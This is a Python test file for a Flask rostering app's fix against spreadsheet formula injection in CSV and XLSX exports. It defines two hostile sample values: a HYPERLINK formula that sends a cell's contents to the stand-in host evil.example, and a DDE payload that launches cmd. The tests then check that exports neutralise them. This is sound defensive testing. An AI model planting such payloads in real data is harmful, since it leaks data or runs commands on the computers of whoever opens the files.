"""The security fixes of issue #17.

Formula injection in exports, sessions that end, sign-in auditing and limits, security headers
and the Content-Security-Policy, the calendar feed's time zones.
"""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

from flask import Flask

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
EVIL_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


# --- formula injection ----------------------------------------------------------------------


def test_spreadsheet_safe_follows_the_owasp_rule() -> None:
    from web.app.services import spreadsheet_safe

    for first in TRIGGERS:
        assert spreadsheet_safe(first + "1+1") == "'" + first + "1+1"
    assert spreadsheet_safe("-2.5") == "-2.5" and spreadsheet_safe("+3") == "+3"
    assert spreadsheet_safe("-inf") == "'-inf"
    assert spreadsheet_safe("Aisha Khan") == "Aisha Khan"
    assert spreadsheet_safe(7) == 7 and spreadsheet_safe(None) is None


def _poison(app: Flask) -> None:
    """Agent A1 named with a live formula; agent A2's id a DDE payload (agents and shifts)."""
    from web.app.extensions import db
    from web.app.models import Agent, Shift

    with app.app_context():
        db.session.execute(db.update(Agent).where(Agent.agent_id == "A1").values(name=EVIL_NAME))
        db.session.execute(db.update(Agent).where(Agent.agent_id == "A2").values(agent_id=EVIL_ID))
        db.session.execute(db.update(Shift).where(Shift.agent_id == "A2").values(agent_id=EVIL_ID))
        db.session.commit()


def _assert_no_formula_cell(values: list[str]) -> None:
    live = [v for v in values if v.startswith(TRIGGERS)]
    assert not live, live


def test_exports_never_hold_a_live_formula(published_app: Flask, h: Any) -> None:
    from openpyxl import load_workbook

    from web.app.extensions import db
    from web.app.models import RosterVersion

    _poison(published_app)
    with published_app.app_context():
        rid = db.session.scalars(db.select(RosterVersion.id)).one()
    c = published_app.test_client()
    assert h.sign_in(c, "manager").status_code == 302

    agents = list(csv.reader(io.StringIO(c.get("/agents/export.csv").get_data(as_text=True))))
    _assert_no_formula_cell([v for row in agents for v in row])
    flat = [v for row in agents for v in row]
    assert "'" + EVIL_NAME in flat and "'" + EVIL_ID in flat

    text = c.get(f"/roster/{rid}/export.csv").get_data(as_text=True)
    roster = list(csv.reader(io.StringIO(text)))
    _assert_no_formula_cell([v for row in roster for v in row])
    assert "'" + EVIL_ID in [row[0] for row in roster]

    body = c.get(f"/roster/{rid}/export.xlsx").data
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    book = load_workbook(io.BytesIO(body))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.append(cell.value)
    _assert_no_formula_cell(seen)
    assert "'" + EVIL_NAME in seen and "'" + EVIL_ID in seen
